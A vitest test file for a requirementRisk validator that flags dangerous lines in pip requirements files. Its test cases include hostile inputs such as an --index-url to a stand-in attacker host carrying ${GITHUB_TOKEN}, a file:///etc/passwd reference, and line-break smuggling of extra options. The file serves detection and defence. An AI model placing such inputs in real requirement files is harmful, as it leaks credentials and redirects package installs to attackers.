// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the syntax of pip’s environment variables
import { describe, expect, it } from 'vitest';
import { requirementRisk } from '#core/model/requirement-risk';

describe('requirementRisk', () => {
  it.each([
    ['--index-url https://evil.example/${GITHUB_TOKEN}', 'option line (--index-url)'],
    ['--index-url=https://evil.example', 'option line (--index-url)'],
    ['-e .', 'option line (-e)'],
    ['  -r other.txt', 'option line (-r)'],
    ['a==1 --hash=sha256:0', 'holds an option (--hash)'],
    ['a==1 -C x=y', 'holds an option (-C)'],
    ['a==1 \\', 'backslash'],
    ['a==${VERSION}', 'environment'],
    ['a==1\n--index-url=x', 'line break'],
    ['a==1\r', 'line break'],
    ['a==1\u2028b', 'line break'],
    ['a\u0000==1', 'control'],
    ['x @ file:///etc/passwd', 'URL'],
    ['x@git+https://h.example/x', 'URL'],
    ['git+https://h.example/x', 'URL'],
    ['https://h.example/x.whl', 'URL'],
    ['file:x', 'URL'],
    ['C:\\x', 'URL'],
    ['../x', 'path'],
    ['./x', 'path'],
    ['.', 'path'],
    ['packages/x', 'path'],
    ['x\\y', 'path'],
    ['x-1.0-py3-none-any.whl', 'archive'],
    ['x.tar.gz ; os_name == "nt"', 'archive'],
  ])('%j %s', (text, why) => {
    expect(requirementRisk(text)).toContain(why);
  });

  it.each([
    'a',
    'a==1.0',
    'a[b]>=1,<2 ; python_version < "3" and platform_machine == "x86_64"',
    'zip-files==1',
    'a==1.0-1',
    'a ; platform_version == "#1 SMP"',
  ])('lets %j through', (text) => {
    expect(requirementRisk(text)).toBeNull();
  });

  it('takes linear time', () => {
    for (const text of [' '.repeat(200_000), `a${' -'.repeat(100_000)}`, `${'a.zip'.repeat(50_000)}x`])
      expect(requirementRisk(text)).toBeNull();
  });
});
